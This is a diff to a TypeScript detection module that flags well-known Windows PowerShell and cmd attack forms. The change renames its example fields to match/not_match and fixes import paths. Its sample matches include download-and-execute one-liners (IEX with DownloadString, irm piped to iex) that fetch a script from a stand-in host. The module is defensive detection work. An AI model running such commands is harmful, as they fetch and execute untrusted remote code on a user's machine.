@@ -1,6 +1,6 @@
 // Windows: the famous forms of PowerShell and cmd attacks. These shells are not parsed, so the rules read bounded text.
-import { type Severity, severity } from "../bands.ts";
-import { type Heuristic, type Threat, clip, onText, when } from "../heuristic.ts";
+import { type Severity, severity } from "../../bands.ts";
+import { type Heuristic, type Threat, clip, onText, when } from "../../heuristic.ts";
 
 /** Each row is one form: id, threat, technique, severity, what it looks like (lower case), reason, one example each way. */
 function form(
@@ -10,8 +10,8 @@ function form(
   score: Severity,
   pattern: RegExp,
   reason: string,
-  risky: string,
-  honest: string,
+  match: string,
+  notMatch: string,
 ): Heuristic {
   return {
     id,
@@ -19,7 +19,8 @@ function form(
     technique,
     score,
     check: onText(pattern, reason),
-    examples: { risky: [risky], honest: [honest] },
+    match: [match],
+    not_match: [notMatch],
   };
 }
 
@@ -49,13 +50,11 @@ export const windows: readonly Heuristic[] = [
         ? null
         : { reason: "It runs the text of a download in PowerShell", evidence: clip(fetched[0]) };
     }),
-    examples: {
-      risky: [
-        `powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://e.org/x.ps1')"`,
-        "irm http://e.org/a.ps1 | iex",
-      ],
-      honest: [`powershell -c "Invoke-WebRequest https://example.org -OutFile a.html"`, "iex -S mix"],
-    },
+    match: [
+      `powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://e.org/x.ps1')"`,
+      "irm http://e.org/a.ps1 | iex",
+    ],
+    not_match: [`powershell -c "Invoke-WebRequest https://example.org -OutFile a.html"`, "iex -S mix"],
   },
   form(
     "windows-download-file",
